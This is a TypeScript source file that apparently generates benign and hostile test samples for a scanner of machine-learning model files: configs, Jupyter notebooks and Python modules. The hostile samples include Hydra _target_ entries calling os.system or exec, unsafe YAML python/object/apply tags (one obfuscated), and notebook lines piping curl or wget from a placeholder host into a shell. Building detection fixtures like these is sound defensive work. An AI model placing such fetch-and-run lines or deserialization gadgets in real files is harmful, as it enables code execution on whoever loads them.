/** Configurations that name what their library imports and calls, in every syntax. */
import yaml from 'yaml';
import { made, type Choose } from '../choose.js';
import type { Grammar, MadeFile } from '../grammar.js';
import { pythonStatements } from './payloads.js';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** Settings as trainers write them. */
function settings(choose: Choose, depth: number): { [key: string]: Json } {
  const entries = choose.list(4, (index): [string, Json] => [
    `${choose.pick(['hidden', 'layers', 'dropout', 'name', 'vocab'])}_${String(index)}`,
    choose.pick<() => Json>([
      () => choose.below(4096),
      () => choose.below(100) / 128,
      () => choose.chance(50),
      () => choose.word(),
      () => choose.list(3, () => choose.below(10)),
      () => (depth > 0 ? settings(choose, depth - 1) : 'x'),
    ])(),
  ]);
  return Object.fromEntries(entries);
}

const targets = [
  'os.system',
  'subprocess.run',
  'builtins.exec',
  'builtins.eval',
  'posix.system',
  'subprocess.Popen',
  'runpy.run_path',
];

/** What hydra.utils.instantiate calls, somewhere among settings. */
function acting(choose: Choose, depth: number): { [key: string]: Json } {
  const call = { _target_: choose.pick(targets), [choose.pick(['command', '_args_', 'args'])]: 'echo hello' };
  let value: { [key: string]: Json } = choose.chance(20) ? { ...call, _partial_: true } : call;
  for (let level = depth; level > 0; level--)
    value = { ...settings(choose, 1), [`part_${choose.word()}`]: choose.chance(30) ? [value] : value };
  return { ...settings(choose, 1), model: value };
}

/** A document in a syntax of its choice, under a name that libraries read. */
function written(choose: Choose, value: { [key: string]: Json }): MadeFile {
  const head = { model_type: 'llama', auto_map: {} };
  return choose.pick<() => MadeFile>([
    () => ({
      name: 'config.json',
      bytes: Buffer.from(JSON.stringify({ ...head, ...value }, undefined, choose.pick([undefined, 2]))),
    }),
    () => ({ name: 'config.yaml', bytes: Buffer.from(yaml.stringify(value)) }),
    () => ({
      name: 'config.yaml',
      bytes: Buffer.from(
        `# ${choose.word()}\n${yaml.stringify(value, { defaultStringType: 'QUOTE_DOUBLE' })}`,
      ),
    }),
    () => ({ name: 'config.yml', bytes: Buffer.from(yaml.stringify(value, { collectionStyle: 'flow' })) }),
  ])();
}

/** Tags by which YAML's unsafe loaders call. */
function tagged(choose: Choose): MadeFile {
  const name = choose.pick(targets);
  const tag = choose.pick([
    `!!python/object/apply:${name} ["echo"]`,
    `!!python/object/new:${name} ["echo"]`,
    `!<tag:yaml.org,2002:python/object/apply:${name}> ["echo"]`,
    `!!python/object/apply:${name}\n    args: ["echo"]`,
    `!!python/%6fbject/apply:${name} ["echo"]`,
  ]);
  const before = choose.list(3, () => `${choose.word()}: ${String(choose.below(9))}\n`).join('');
  const place = choose.pick(['run: ', 'a:\n  b: ', 'list:\n  - ']);
  return { name: choose.pick(['config.yaml', 'model.yml']), bytes: Buffer.from(`${before}${place}${tag}\n`) };
}

export const manifestGrammar: Grammar = {
  genuine: made((choose) => written(choose, settings(choose, 3))),
  hostile: made((choose) =>
    choose.chance(70) ? written(choose, acting(choose, choose.below(4))) : tagged(choose),
  ),
};

const cell = (type: string, lines: readonly string[]): unknown => ({
  cell_type: type,
  metadata: {},
  ...(type === 'code' ? { execution_count: null, outputs: [] } : {}),
  source: lines.map((line, index) => (index === lines.length - 1 ? line : `${line}\n`)),
});

const plainLines = ['import torch', 'x = 1', 'model.eval()', 'print(x)', '!nvidia-smi', '%matplotlib inline'];
const runs = [
  '!curl -sL https://example.invalid/setup.sh | sh',
  '!wget -qO- https://example.invalid/x | bash',
  "exec(__import__('requests').get('https://example.invalid/x.py').text)",
];

function notebook(choose: Choose, own: readonly string[]): MadeFile {
  const cells = choose.shuffle([
    ...choose.list(4, () =>
      cell(
        'code',
        choose.list(3, () => choose.pick(plainLines)),
      ),
    ),
    ...choose.list(2, () => cell('markdown', [choose.phrase()])),
    ...own.map((line) =>
      cell('code', choose.shuffle([line, ...choose.list(2, () => choose.pick(plainLines))])),
    ),
  ]);
  return {
    name: 'train.ipynb',
    bytes: Buffer.from(JSON.stringify({ cells, metadata: {}, nbformat: 4, nbformat_minor: 5 })),
  };
}

export const notebookGrammar: Grammar = {
  genuine: made((choose) => notebook(choose, [])),
  hostile: made((choose) => notebook(choose, [choose.pick(runs)])),
  least: 'warning',
};

/** Modules that a repository's auto_map has imported. */
const layers = (choose: Choose): string =>
  choose
    .list(
      3,
      () =>
        `class ${choose.word()}_(nn.Module):\n    def forward(self, x):\n        return self.${choose.word()}(x)\n`,
    )
    .join('\n');

export const pythonSourceGrammar: Grammar = {
  genuine: made((choose) => ({
    name: 'modeling_llama.py',
    asked: { expects: 'python-source' },
    bytes: Buffer.from(`import torch\nfrom torch import nn\n\n${layers(choose)}`),
  })),
  hostile: made((choose) => ({
    name: choose.pick(['modeling_llama.py', 'configuration_x.py', 'tokenization_y.py']),
    asked: { expects: 'python-source' },
    bytes: Buffer.from(
      `import torch\nfrom torch import nn\n\n${layers(choose)}\n${pythonStatements(choose)}\n${layers(choose)}`,
    ),
  })),
};
